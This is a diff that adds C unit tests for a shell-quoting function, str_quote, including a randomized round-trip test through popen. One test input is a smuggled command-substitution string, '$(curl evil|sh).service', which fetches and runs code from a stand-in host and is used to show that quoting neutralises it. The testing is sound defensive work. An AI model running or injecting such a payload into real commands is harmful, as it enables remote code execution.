@@ -90,6 +90,54 @@ static void printable_random(void **state)
 	}
 }
 
+static void check_quote(const char *text, const char *expected)
+{
+	_cleanup_free_ char *quoted = str_quote(text);
+
+	assert_non_null(quoted);
+	assert_string_equal(quoted, expected);
+}
+
+static void quotes_for_a_shell(void **state)
+{
+	(void)state;
+	check_quote("", "''");
+	check_quote("/mnt/data", "/mnt/data");
+	check_quote("dbus-:1.2@3.service", "dbus-:1.2@3.service");
+	check_quote("/my boot", "'/my boot'");
+	check_quote("it's", "'it'\\''s'");
+	check_quote("~", "'~'");
+	check_quote("a\\b", "'a\\b'");
+	check_quote("$(curl evil|sh).service", "'$(curl evil|sh).service'");
+	check_quote("-x", "-x");
+}
+
+/* A real shell makes the same word of it again, and runs nothing. */
+static void quotes_whatever_there_is(void **state)
+{
+	static const char alphabet[] = "'\"\\$`;&|<>(){}[]*?~!# \t\n=-ab";
+	unsigned int seed = 7;
+
+	(void)state;
+	for (int round = 0; round < 60; round++) {
+		_cleanup_free_ char *quoted = NULL, *command = NULL;
+		char text[17] = "", read[32] = "";
+		FILE *f;
+
+		for (int i = rand_r(&seed) % 16; i-- > 0;)
+			text[i] = alphabet[(unsigned int)rand_r(&seed) % (sizeof(alphabet) - 1)];
+		quoted = str_quote(text);
+		assert_non_null(quoted);
+		assert_true(asprintf(&command, "printf '%%s.' %s", quoted) > 0);
+		f = popen(command, "r");
+		assert_non_null(f);
+		read[fread(read, 1, sizeof(read) - 1, f)] = '\0';
+		assert_int_equal(pclose(f), 0);
+		strcat(text, ".");
+		assert_string_equal(read, text);
+	}
+}
+
 static void list_push_and_has(void **state)
 {
 	_cleanup_strv_ struct strv list = { 0 };
@@ -213,6 +261,8 @@ int main(void)
 		cmocka_unit_test(printable_control),
 		cmocka_unit_test(printable_not_utf8),
 		cmocka_unit_test(printable_random),
+		cmocka_unit_test(quotes_for_a_shell),
+		cmocka_unit_test(quotes_whatever_there_is),
 		cmocka_unit_test(list_push_and_has),
 		cmocka_unit_test(list_sort),
 		cmocka_unit_test(compare),
